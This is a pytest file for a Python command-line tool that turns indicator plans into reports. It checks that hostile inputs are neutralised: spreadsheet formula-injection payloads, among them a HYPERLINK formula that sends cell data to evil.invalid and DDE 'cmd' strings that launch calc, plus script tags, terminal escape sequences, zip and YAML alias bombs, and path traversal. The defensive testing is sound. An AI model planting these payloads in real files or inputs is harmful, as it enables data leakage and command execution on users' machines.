"""Hostile and broken input: one test per attack, each building its file in a temporary folder.

The attacks on memory and time run the command in a subprocess with an
address-space limit and a timeout, and check a clean exit code and message.
"""

from __future__ import annotations

import csv
import io
import os
import re
import resource
import signal
import subprocess
import sys
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from achievement.cli import main
from achievement.render._safe import is_number_text

HEADER = ["評価指標", "目標", "実績", "取組状況等"]
MEMORY = 200 << 20
"""The address space the command may use on a hostile file."""


def write_csv(path: Path, rows: Sequence[Sequence[str]], header: Sequence[str] = HEADER) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([list(header), *rows])
    return path


def run_limited(*args: str, timeout: float = 30) -> subprocess.CompletedProcess[str]:
    """The command in a subprocess limited to :data:`MEMORY` of address space, with a timeout."""

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY))

    code = "import sys; from achievement.cli import main; sys.exit(main(sys.argv[1:]))"
    return subprocess.run(
        [sys.executable, "-c", code, *args],
        preexec_fn=limit,
        capture_output=True,
        text=True,
        timeout=timeout,
        check=False,
        env={**os.environ, "ACHIEVEMENT_LANG": "en"},
    )


def assert_clean(result: subprocess.CompletedProcess[str], code: int, message: str) -> None:
    assert result.returncode == code, result.stderr
    assert message in result.stderr
    assert "Traceback" not in result.stderr


# -- exports ---------------------------------------------------------------------------------

ATTACKS = [
    '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = re.compile(r"^[=+\-@\t\r]")


def hostile_plan(folder: Path, name: str = "plan.csv") -> Path:
    rows = [[attack, "10件", "12件", attack] for attack in ATTACKS]
    rows.append(["指標", "10件", "-5", "-"])
    return write_csv(folder / name, rows)


def test_csv_report_has_no_live_formula(tmp_path: Path) -> None:
    """Every formula-like cell of the CSV report starts with ``'``; ``-5`` and ``-`` stay as they are."""
    plan = hostile_plan(tmp_path)
    out = tmp_path / "report.csv"
    assert main(["report", str(plan), "-o", str(out)]) == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    cells = [cell for row in rows for cell in row]
    live = [cell for cell in cells if FORMULA_START.match(cell) and cell not in ("-5", "-")]
    assert [cell for cell in live if not is_number_text(cell)] == []  # -50.0% is a number
    for attack in ATTACKS:
        assert "'" + attack.strip() in cells  # the reader strips the cell
    assert "-5" in cells


def test_compare_csv_has_no_live_formula(tmp_path: Path) -> None:
    """``compare --format csv`` neutralises formula-like cells the same way."""
    plan = hostile_plan(tmp_path)
    out = tmp_path / "compare.csv"
    assert main(["compare", str(plan), "-o", str(out), "--schemes", "binary,degree"]) == 0
    cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8"))) for c in row]
    live = [cell for cell in cells if FORMULA_START.match(cell) and cell not in ("-5", "-")]
    assert [cell for cell in live if not is_number_text(cell)] == []  # -50.0% is a number
    assert "'" + ATTACKS[0] in cells


def test_problem_line_with_a_formula_file_name_is_neutralised(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A file named ``=cmd.csv`` whose row is a problem: the problem line in the CSV is text."""
    plan = write_csv(
        tmp_path / "=cmd.csv", [["a", "10件", "12件", ""], ["b", "年0件", "1件未満", ""]]
    )
    out = tmp_path / "report.xlsx"
    monkeypatch.chdir(tmp_path)
    assert main(["report", "=cmd.csv", "-o", str(out)]) == 1
    book = load_workbook(out)
    lines = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    problem = [cell for cell in lines if isinstance(cell.value, str) and "=cmd.csv" in cell.value]
    assert problem
    assert all(cell.data_type == "s" for cell in problem)
    assert plan.exists()


def test_xlsx_report_has_no_formula_and_no_full_calc(tmp_path: Path) -> None:
    """No XLSX cell is a formula, formula-like text keeps its text, numbers stay numbers."""
    plan = hostile_plan(tmp_path)
    out = tmp_path / "report.xlsx"
    assert main(["report", str(plan), "-o", str(out)]) == 0
    with zipfile.ZipFile(out) as archive:
        xml = {name: archive.read(name).decode("utf-8") for name in archive.namelist()}
    assert "fullCalcOnLoad" not in xml["xl/workbook.xml"]
    assert all("<f>" not in text and "<f " not in text for text in xml.values())
    book = load_workbook(out)
    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    assert ATTACKS[0] in texts
    assert any(isinstance(cell.value, int) for cell in cells)  # the summary counts


def test_xlsx_properties_hold_no_formula(tmp_path: Path) -> None:
    """A plan titled ``=cmd`` gives a workbook whose title property is neutralised."""
    plan = tmp_path / "plan.yaml"
    plan.write_text(
        "title: '=1+1'\ngoals:\n- title: g\n  measures:\n  - title: m\n    indicators:\n"
        "    - name: a\n      target: 10件\n      actual: 12件\n",
        encoding="utf-8",
    )
    out = tmp_path / "report.xlsx"
    assert main(["report", str(plan), "-o", str(out)]) == 0
    book = load_workbook(out)
    assert book.properties.title is not None
    assert not FORMULA_START.match(book.properties.title)
    assert book.worksheets[0]["A1"].data_type == "s"


def test_markdown_escapes_html(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """``<script>`` and ``<img onerror>`` in cells are shown as text in Markdown."""
    plan = write_csv(
        tmp_path / "plan.csv",
        [
            ["<script>alert(1)</script>", "10件", "12件", "<img src=x onerror=alert(1)>"],
            ["b", "10件", "8件", "<b>bold</b>"],
        ],
    )
    assert main(["report", str(plan), "--format", "md"]) == 0
    out = capsys.readouterr().out
    assert "<script" not in out
    assert "<img" not in out
    assert "<b>" not in out
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out


def test_terminal_and_stderr_get_no_escape_sequence(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """ESC and OSC sequences in cells reach neither stdout nor stderr; they are shown as ␛."""
    plan = write_csv(
        tmp_path / "plan.csv",
        [
            ["\x1b]0;owned\x07name\x1b[2J", "10件", "12件", ""],
            ["bad", "10件", "\x1b[31mx\x9b", ""],
        ],
    )
    assert main(["report", str(plan), "--format", "text"]) == 1
    out, err = capsys.readouterr()
    for stream in (out, err):
        assert "\x1b" not in stream
        assert "\x07" not in stream
        assert "\x9b" not in stream
    assert "␛" in err


def test_control_characters_never_crash_the_xlsx_writer(tmp_path: Path) -> None:
    """NUL, vertical tab and ESC in cells are written as symbols; the workbook opens."""
    plan = write_csv(
        tmp_path / "plan.csv",
        [["a\x00b", "10件", "12件", "x\x0by\x1bz"], ["c\x1b", "10件", "8件", "\x08"]],
    )
    out = tmp_path / "report.xlsx"
    assert main(["report", str(plan), "-o", str(out)]) == 0
    book = load_workbook(out)
    texts = {c.value for ws in book.worksheets for row in ws.iter_rows() for c in row}
    assert "a␀b" in texts
    assert "x␋y␛z" in texts


# -- bounded work on hostile files -----------------------------------------------------------


def small_book(path: Path, extra: str = "") -> Path:
    """A workbook with a plan table of two rows, then ``extra`` applied by name."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(HEADER)
    sheet.append(["a", "10件", "12件", ""])
    sheet.append(["b", "10件", "8件", ""])
    if extra == "far value":
        sheet["XFD1048576"] = "x"
    elif extra == "far empty":
        from openpyxl.styles import PatternFill

        sheet["XFD1048576"].fill = PatternFill("solid", fgColor="FF0000")
    elif extra == "big merge":
        sheet["A40"] = "merged"
    book.save(path)
    if extra == "big merge":  # written into the XML: openpyxl would build every merged cell
        _rewrite(
            path,
            "xl/worksheets/sheet1.xml",
            lambda xml: xml.replace(
                b"</sheetData>",
                b'</sheetData><mergeCells count="1"><mergeCell ref="A40:XFD1048576"/></mergeCells>',
            ),
        )
    return path


def _rewrite(path: Path, member: str, change: Callable[[bytes], bytes]) -> None:
    """Change one part of the archive ``path`` in place."""
    with zipfile.ZipFile(path) as source:
        parts = [(info, source.read(info.filename)) for info in source.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for info, data in parts:
            target.writestr(info, change(data) if info.filename == member else data)


def test_xlsx_far_away_value_is_refused_quickly(tmp_path: Path) -> None:
    """A small file with a value at XFD1048576 is refused, within 200 MB and the timeout."""
    path = small_book(tmp_path / "far.xlsx", "far value")
    assert path.stat().st_size < 10_000
    result = run_limited("validate", str(path))
    assert_clean(result, 2, "XFD1048576")


def test_xlsx_far_away_empty_cell_does_not_widen_the_table(tmp_path: Path) -> None:
    """A styled empty cell at XFD1048576 (and the dimension it states) is not the used range."""
    path = small_book(tmp_path / "far.xlsx", "far empty")
    with zipfile.ZipFile(path) as archive:
        assert "XFD1048576" in archive.read("xl/worksheets/sheet1.xml").decode()
    result = run_limited("validate", str(path))
    assert result.returncode == 0, result.stderr
    assert "read 2 of 2 rows" in result.stdout


def test_xlsx_huge_merge_is_refused_quickly(tmp_path: Path) -> None:
    """A merge A40:XFD1048576 is a clear error naming the range, within 200 MB."""
    path = small_book(tmp_path / "merge.xlsx", "big merge")
    result = run_limited("report", str(path))
    assert_clean(result, 2, "A40:XFD1048576")


def test_xlsx_zip_bomb_is_refused(tmp_path: Path) -> None:
    """A workbook whose parts unpack to far more than its size allows is refused."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(HEADER)
    for number in range(200):
        sheet.append(["a" * 5000, "10件", "12件", str(number)])
    path = tmp_path / "bomb.xlsx"
    book.save(path)
    size = path.stat().st_size
    result = run_limited("validate", str(path), "--max-bytes", str(size + 1))
    assert_clean(result, 2, "unpacks to")


def test_workbook_without_worksheet_is_a_clear_error(tmp_path: Path) -> None:
    """A workbook whose sheet list is empty says so."""
    path = small_book(tmp_path / "book.xlsx")
    _rewrite(
        path,
        "xl/workbook.xml",
        lambda xml: re.sub(rb"<sheets>.*</sheets>", b"<sheets/>", xml, flags=re.S),
    )
    result = run_limited("validate", str(path))
    assert_clean(result, 2, "no worksheet")


@pytest.mark.parametrize(
    ("option", "value", "rows", "message"),
    [
        ("--max-rows", "5", [["a", "1件", "1件", ""]] * 10, "--max-rows 5"),
        ("--max-cell-chars", "100", [["a" * 101, "1件", "1件", ""]], "--max-cell-chars 100"),
        ("--max-bytes", "100", [["a" * 100, "1件", "1件", ""]], "--max-bytes 100"),
    ],
)
def test_limits_refuse_with_exit_2(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    option: str,
    value: str,
    rows: list[list[str]],
    message: str,
) -> None:
    """A file over a limit is refused with exit 2 and names the option."""
    plan = write_csv(tmp_path / "plan.csv", rows)
    for command in ("validate", "report"):
        assert main([command, str(plan), option, value, "--lang", "en"]) == 2
        assert message in capsys.readouterr().err


def test_xlsx_row_limit(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """``--max-rows`` bounds a sheet's rows too."""
    path = small_book(tmp_path / "book.xlsx")
    assert main(["validate", str(path), "--max-rows", "2", "--lang", "en"]) == 2
    assert "--max-rows" in capsys.readouterr().err


def test_symlink_to_dev_zero_does_not_hang(tmp_path: Path) -> None:
    """A plan that is a link to /dev/zero is refused at once."""
    for suffix in (".csv", ".xlsx", ".yaml"):
        link = tmp_path / f"zero{suffix}"
        link.symlink_to("/dev/zero")
        result = run_limited("validate", str(link), timeout=20)
        assert_clean(result, 2, "not a regular file")


def test_fifo_does_not_hang(tmp_path: Path) -> None:
    """A FIFO nobody writes to is refused at once."""
    fifo = tmp_path / "plan.csv"
    os.mkfifo(fifo)
    result = run_limited("report", str(fifo), timeout=20)
    assert_clean(result, 2, "not a regular file")


def test_yaml_alias_bomb_is_refused_quickly(tmp_path: Path) -> None:
    """A 2 KB file of nested aliases expanding to millions of indicators is refused, within 200 MB."""
    lines = ["a0: &a0 {name: x, target: 1件, actual: 1件}"]
    for level in range(1, 8):
        prev = f"*a{level - 1}"
        lines.append(f"a{level}: &a{level} [{', '.join([prev] * 10)}]")
    lines.append("goals:\n- title: g\n  measures:\n  - title: m\n    indicators: *a7")
    path = tmp_path / "bomb.yaml"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    assert path.stat().st_size < 2048
    result = run_limited("report", str(path))
    assert_clean(result, 2, "aliases")


def test_yaml_recursive_alias_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """An alias that refers to itself is refused, not built."""
    path = tmp_path / "loop.yaml"
    path.write_text("goals: &g\n- title: g\n  measures: *g\n", encoding="utf-8")
    assert main(["validate", str(path), "--lang", "en"]) == 2
    assert "refers to itself" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("deep.yaml", "goals: " + "[" * 200 + "]" * 200 + "\n"),
        ("deep.json", '{"goals": ' + "[" * 100_000 + "]" * 100_000 + "}"),
        ("deep2.yaml", "goals:\n" + "".join("  " * i + "- \n" for i in range(1, 120))),
    ],
)
def test_deep_nesting_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str, text: str
) -> None:
    """Nesting beyond the limit is a clear error, never a RecursionError."""
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    assert main(["validate", str(path), "--lang", "en"]) == 2
    err = capsys.readouterr().err
    assert "nest" in err
    assert "Recursion" not in err


def test_plan_scheme_may_not_leave_its_folder(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """``scheme: ../x.yaml`` in a plan is refused; the same file given with --scheme is read."""
    folder = tmp_path / "plans"
    folder.mkdir()
    (tmp_path / "outside.yaml").write_text("extends: degree\n", encoding="utf-8")
    plan = folder / "plan.yaml"
    body = (
        "goals:\n- title: g\n  measures:\n  - title: m\n    indicators:\n"
        "    - name: a\n      target: 10件\n      actual: 12件\n"
    )
    plan.write_text("scheme: ../outside.yaml\n" + body, encoding="utf-8")
    assert main(["report", str(plan), "--lang", "en"]) == 2
    assert "outside the plan's folder" in capsys.readouterr().err
    plan.write_text(f"scheme: {tmp_path / 'outside.yaml'}\n" + body, encoding="utf-8")
    assert main(["report", str(plan), "--lang", "en"]) == 2
    given = str(tmp_path / "outside.yaml")
    assert main(["report", str(plan), "--scheme", given, "--format", "json"]) == 0


@pytest.mark.parametrize(
    "actual",
    [
        "1234567890123456789012345万",
        "123456789012345678901234567",
        "0.0000000000000000000000001",
        "1E+308",
    ],
)
def test_long_numbers_are_refused_and_validate_agrees_with_report(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], actual: str
) -> None:
    """A number too long to read exactly is a problem of its row, in validate and in report."""
    plan = write_csv(tmp_path / "plan.csv", [["a", "10件", actual, ""], ["b", "10件", "12件", ""]])
    assert main(["validate", str(plan), "--lang", "en"]) == 1
    checked = capsys.readouterr().out
    assert f"plan.csv:2: 実績: {actual}:" in checked
    assert main(["report", str(plan), "--lang", "en", "--format", "json"]) == 1
    reported = capsys.readouterr().err
    assert f"plan.csv:2: 実績: {actual}:" in reported
    assert checked.splitlines()[0].split(": ", 4)[-1] in reported


def test_xlsx_float_of_1e308_is_a_problem(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A numeric XLSX cell of 1E+308 is refused as a problem of its row, not read inexactly."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(HEADER)
    sheet.append(["a", 10, 1e308, ""])
    sheet.append(["b", 10, 12, ""])
    path = tmp_path / "big.xlsx"
    book.save(path)
    assert main(["validate", str(path), "--lang", "en"]) == 1
    assert "more than 20 digits" in capsys.readouterr().out


# -- errors, never tracebacks ----------------------------------------------------------------


def test_write_failure_is_exit_2_and_keeps_the_previous_report(tmp_path: Path) -> None:
    """A file-size limit hit while writing: exit 2 with a message; the old report is intact."""
    out = tmp_path / "report.html"
    out.write_text("previous report", encoding="utf-8")

    def limit() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (1000, 1000))

    code = "import sys; from achievement.cli import main; sys.exit(main(sys.argv[1:]))"
    result = subprocess.run(
        [sys.executable, "-c", code, "report", "-o", str(out), "--lang", "en"],
        preexec_fn=limit,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert_clean(result, 2, f"cannot write {out}")
    assert out.read_text(encoding="utf-8") == "previous report"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.html"]


def test_write_into_a_missing_folder_is_exit_2(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """An output folder that does not exist: exit 2 naming the file."""
    out = tmp_path / "missing" / "report.csv"
    assert main(["report", "-o", str(out), "--lang", "en"]) == 2
    assert f"cannot write {out}" in capsys.readouterr().err


def test_unexpected_error_exits_3_with_a_hint(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A bug ends with exit 3, a short message and a hint; ACHIEVEMENT_DEBUG=1 adds the traceback."""
    from achievement.cli import report_command

    def broken(*_args: object, **_kwargs: object) -> None:
        raise ZeroDivisionError("boom")

    monkeypatch.setattr(report_command, "_render", broken)
    assert main(["report", "--lang", "en"]) == 3
    err = capsys.readouterr().err
    assert "internal error: ZeroDivisionError: boom" in err
    assert "ACHIEVEMENT_DEBUG=1" in err
    assert "Traceback" not in err
    monkeypatch.setenv("ACHIEVEMENT_DEBUG", "1")
    assert main(["report", "--lang", "ja"]) == 3
    err = capsys.readouterr().err
    assert "Traceback" in err
    assert "内部エラー" in err


# -- nothing lost ----------------------------------------------------------------------------


@pytest.mark.parametrize("how", ["same", "symlink", "hardlink", "relative"])
def test_output_naming_the_input_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], how: str
) -> None:
    """``-o`` naming the plan, a link to it or the same file by another path: refused, input intact."""
    plan = write_csv(tmp_path / "plan.csv", [["a", "10件", "12件", ""]])
    before = plan.read_bytes()
    out = {
        "same": plan,
        "symlink": tmp_path / "link.csv",
        "hardlink": tmp_path / "hard.csv",
        "relative": tmp_path / "sub" / ".." / "plan.csv",
    }[how]
    if how == "symlink":
        out.symlink_to(plan)
    elif how == "hardlink":
        os.link(plan, out)
    elif how == "relative":
        (tmp_path / "sub").mkdir()
    for command in ("report", "compare"):
        assert main([command, str(plan), "-o", str(out), "--format", "csv", "--lang", "en"]) == 2
        assert "is the file being read" in capsys.readouterr().err
    assert plan.read_bytes() == before


def test_output_is_replaced_atomically(tmp_path: Path) -> None:
    """A report replaces the previous one through a rename: no temporary file is left behind."""
    out = tmp_path / "report.md"
    out.write_text("old", encoding="utf-8")
    inode = out.stat().st_ino
    assert main(["report", "-o", str(out)]) == 0
    assert out.read_text(encoding="utf-8").startswith("# ")
    assert out.stat().st_ino != inode
    assert [p.name for p in tmp_path.iterdir()] == ["report.md"]


# -- the sanitizers' laws --------------------------------------------------------------------


@given(st.text())
def test_sanitized_text_is_safe_and_nothing_is_dropped(text: str) -> None:
    """No sanitizer lets a formula start or a control character through, or loses a character."""
    from achievement.render._safe import csv_cell, markdown_text, terminal_text, xlsx_text

    cell = csv_cell(text)
    assert isinstance(cell, str)
    assert cell in (text, "'" + text)
    if FORMULA_START.match(cell):
        assert re.fullmatch(r"[+-]?[\d.]+(?:[eE][+-]?\d+)?%?|-+", cell), cell
    shown = terminal_text(text)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", shown)
    assert len(shown) >= len(text)
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", xlsx_text(text))
    assert "<" not in markdown_text(text)


@pytest.mark.parametrize("text", ["-5", "+1.5", "-0.25%", "1E+3", "-", "--"])
def test_numbers_and_dashes_stay_as_they_are_in_csv(text: str) -> None:
    """A plain number (or a dash for none) is no formula and keeps its text."""
    from achievement.render._safe import csv_cell

    assert csv_cell(text) == text


def test_html_escapes_cells(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The HTML report shows ``<script>`` in a cell as text."""
    plan = write_csv(tmp_path / "plan.csv", [["<script>alert(1)</script>", "10件", "12件", ""]])
    assert main(["report", str(plan), "--format", "html"]) == 0
    out = capsys.readouterr().out
    assert "<script>alert(1)" not in out
    assert "&lt;script&gt;alert(1)" in out


def test_merge_repeats_within_the_used_range_only(tmp_path: Path) -> None:
    """A merge reaching past the cells that hold values repeats its value only up to them."""
    from achievement.readers._xlsx import xlsx_rows

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["計画", None, None])
    sheet.append(HEADER)
    sheet.append(["a", "10件", "12件", ""])
    sheet.merge_cells("A1:Z1")
    sheet.merge_cells("D3:D9")
    path = tmp_path / "book.xlsx"
    book.save(path)
    table = xlsx_rows(path.read_bytes(), file="book.xlsx")
    assert table.rows == [
        (1, ["計画", "計画", "計画", "計画"]),
        (2, HEADER),
        (3, ["a", "10件", "12件", ""]),  # D3:D9 stops at the last row used
    ]


def test_scheme_file_alias_bomb_is_refused(tmp_path: Path) -> None:
    """A scheme file of nested aliases is refused like a plan file, within 200 MB."""
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 8)]
    path = tmp_path / "bomb.yaml"
    path.write_text("\n".join(["extends: degree", *lines]) + "\n", encoding="utf-8")
    result = run_limited("report", "--scheme", str(path))
    assert_clean(result, 2, "aliases")


def test_deep_yaml_without_libyaml_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """With PyYAML's pure-Python parser, deep nesting is refused too, never a RecursionError."""
    import yaml

    monkeypatch.delattr(yaml, "CSafeLoader", raising=False)
    for depth in (100, 5000):
        path = tmp_path / f"deep{depth}.yaml"
        path.write_text("goals: " + "[" * depth + "]" * depth + "\n", encoding="utf-8")
        assert main(["validate", str(path), "--lang", "en"]) == 2
        err = capsys.readouterr().err
        assert "nested more than" in err


def test_output_through_a_link_replaces_its_target(tmp_path: Path) -> None:
    """``-o LINK`` replaces the file the link points to and keeps the link."""
    target = tmp_path / "real.md"
    target.write_text("old", encoding="utf-8")
    link = tmp_path / "link.md"
    link.symlink_to(target)
    assert main(["report", "-o", str(link)]) == 0
    assert link.is_symlink()
    assert target.read_text(encoding="utf-8").startswith("# ")


def test_too_many_columns_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A CSV row with values past 256 columns is refused; trailing blank cells are not counted."""
    wide = write_csv(tmp_path / "wide.csv", [["a", "10件", "12件", "", *[""] * 300, "x"]])
    assert main(["validate", str(wide), "--lang", "en"]) == 2
    assert "more than 256 columns" in capsys.readouterr().err
    blank = write_csv(tmp_path / "blank.csv", [["a", "10件", "12件", "", *[""] * 300]])
    assert main(["validate", str(blank), "--lang", "en"]) == 0


def test_plan_file_indicators_count_against_max_rows(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A plan file with more indicators than --max-rows is refused."""
    items = "".join(f"    - name: i{n}\n      target: 10件\n      actual: 12件\n" for n in range(6))
    path = tmp_path / "plan.yaml"
    path.write_text(
        "goals:\n- title: g\n  measures:\n  - title: m\n    indicators:\n" + items,
        encoding="utf-8",
    )
    assert main(["validate", str(path), "--max-rows", "5", "--lang", "en"]) == 2
    assert "--max-rows 5" in capsys.readouterr().err
    assert main(["validate", str(path), "--max-rows", "6", "--lang", "en"]) == 0
